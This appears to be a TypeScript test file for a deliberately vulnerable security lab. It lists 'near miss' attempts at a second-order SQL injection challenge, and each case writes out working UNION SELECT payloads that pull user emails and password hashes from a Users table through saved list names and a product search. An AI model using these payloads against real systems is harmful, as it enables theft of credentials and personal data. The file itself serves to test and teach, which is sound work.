import type { NearMiss } from '#lab'
import { ADMIN_HASH, logInAsJim, print, save, textOf } from './steps.ts'

const CHALLENGE = 'secondOrderChallenge'

export const nearMisses: NearMiss[] = [
  {
    challenge: CHALLENGE,
    name: 'the list is saved, and never printed',
    run: async (tools) => {
      await save(tools, await logInAsJim(tools), "x' UNION SELECT email, password FROM Users--")
    },
  },
  {
    challenge: CHALLENGE,
    name: 'the UNION in the search',
    run: async (tools) => {
      const him = await logInAsJim(tools)
      await print(tools, him, await save(tools, him, 'Friday'))
      const term = encodeURIComponent("x')) UNION SELECT 1,email,password,4,5,6,7,8,9 FROM Users--")
      const { status } = await tools.http.get(`/rest/products/search?q=${term}`)
      tools.expect(status === 200, `the search answered with ${status}`)
    },
  },
  {
    challenge: CHALLENGE,
    name: 'Jim’s own address and hash only',
    run: async (tools) => {
      const him = await logInAsJim(tools)
      const name = `x' UNION SELECT email, password FROM Users WHERE email='jim@${tools.settings.domain}'--`
      const text = textOf(await print(tools, him, await save(tools, him, name)))
      tools.expect(text.includes(`jim@${tools.settings.domain}`), 'it is not printed')
    },
  },
  {
    challenge: CHALLENGE,
    name: 'the addresses of all customers, without a password',
    run: async (tools) => {
      const him = await logInAsJim(tools)
      const id = await save(tools, him, "x' UNION SELECT email, id FROM Users--")
      const text = textOf(await print(tools, him, id))
      tools.expect(text.includes(`admin@${tools.settings.domain}`), 'they are not printed')
    },
  },
  {
    challenge: CHALLENGE,
    name: 'all hashes, each in one column beside the address of Jim in the other',
    run: async (tools) => {
      const him = await logInAsJim(tools)
      const jim = `'jim@${tools.settings.domain}'`
      const others = `FROM Users WHERE email <> ${jim}`
      const name = `x' UNION SELECT ${jim}, password ${others} UNION SELECT password, ${jim} ${others}--`
      const text = textOf(await print(tools, him, await save(tools, him, name)))
      tools.expect(text.includes(ADMIN_HASH), 'they are not printed')
    },
  },
  {
    challenge: CHALLENGE,
    name: 'all addresses, each beside a hash of nobody',
    run: async (tools) => {
      const him = await logInAsJim(tools)
      const hash = `'${'0'.repeat(32)}'`
      const name = `x' UNION SELECT email, ${hash} FROM Users UNION SELECT ${hash}, email FROM Users--`
      const text = textOf(await print(tools, him, await save(tools, him, name)))
      tools.expect(text.includes(`admin@${tools.settings.domain}`), 'they are not printed')
    },
  },
  {
    challenge: CHALLENGE,
    name: 'an apostrophe, which only breaks the printer',
    run: async (tools) => {
      const { token } = await logInAsJim(tools)
      const id = await save(tools, { token }, "Dad's list")
      const { status } = await tools.http.get(`/rest/lists/${id}/print`, { token })
      tools.expect(status === 500, `it was answered with ${status}`)
    },
  },
]
